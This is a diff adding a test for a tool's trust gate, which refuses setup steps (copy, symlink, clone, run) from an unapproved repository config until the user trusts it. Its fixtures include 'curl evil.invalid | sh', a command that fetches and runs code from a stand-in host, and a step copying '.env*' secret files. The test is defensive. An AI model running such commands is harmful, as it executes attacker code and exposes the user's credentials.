@@ -47,6 +47,18 @@ describe('requireTrust', () => {
     expect(e.message).toContain('run: curl evil.invalid | sh');
   });
 
+  it('an untrusted file gets no steps at all: copy, symlink and clone need approval like run', async () => {
+    writeFileSync(file, 'setup:\n  - copy: ".env*"\n  - symlink: [a/evil, cache]\n  - clone: node_modules\n');
+    const { config, repoHash } = await loadConfig({ repoRoot: repo, env });
+    const e = refusal(() => requireTrust(config, 'shell', file, repoHash, env));
+    expect(e.code).toBe('UNTRUSTED_CONFIG');
+    expect(e.message).toBe(`${file} asks for setup steps or commands you have not approved:\n  copy: .env*\n  symlink: a/evil, cache\n  clone: node_modules`);
+    // sync-files asks with no profile: the same steps, the same refusal.
+    expect(refusal(() => requireTrust(config, null, file, repoHash, env)).code).toBe('UNTRUSTED_CONFIG');
+    trust(file, env);
+    expect(() => requireTrust(config, null, file, repoHash, env)).not.toThrow();
+  });
+
   it('lets the steps of an approved, unchanged file through', async () => {
     writeFileSync(file, 'setup:\n  - run: "npm ci"\n');
     trust(file, env);
